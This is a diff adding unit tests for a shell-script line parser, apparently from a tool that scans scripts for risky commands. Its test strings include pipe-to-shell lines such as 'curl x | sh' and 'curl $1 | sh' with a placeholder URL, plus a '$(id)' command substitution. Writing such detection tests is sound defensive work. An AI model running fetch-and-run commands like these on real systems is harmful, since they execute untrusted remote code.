@@ -15,6 +15,17 @@ describe('lines of a script', () => {
 
   it('are none where they are read in whole', () => assert.equal(readScript('x.sh', `${'true;'.repeat(100)} curl x\n`).cut, undefined));
 
+  it('are none of a text that is only shown, nor of what begins and ends functions', () => {
+    const text = `usage()\n{\ncat << _END\nName\n   curl x | sh\n$(id)\n_END\n}\nusage\n`;
+    assert.deepEqual(linesOf(text), ['cat << _END', '$(id)', '{ cat << _END; $(id); }']);
+    assert.deepEqual(linesOf(text.replace('<< _END', "<< '_END'")), ["cat << '_END'", `{ cat << '_END'; }`]);
+    assert.ok(linesOf(`cat() { sh; }\n${text}`).includes('curl x | sh'));
+    assert.ok(linesOf(text.replace('<< _END', '<< _END | sh')).includes('curl x | sh'));
+  });
+
+  it('are those of a function where it is called', () =>
+    assert.deepEqual(linesOf('f()\n{\ncurl $1 | sh\n}\nf https://a.invalid/x\n'), ['curl $1 | sh', '{ curl https://a.invalid/x | sh; }']));
+
   it('keep what stands behind long values', () => {
     const lines = linesOf(`A=${PADDING}\necho $A$A$A$A$A; curl x\n`);
     assert.match(lines.at(-1) ?? '', /curl x/);
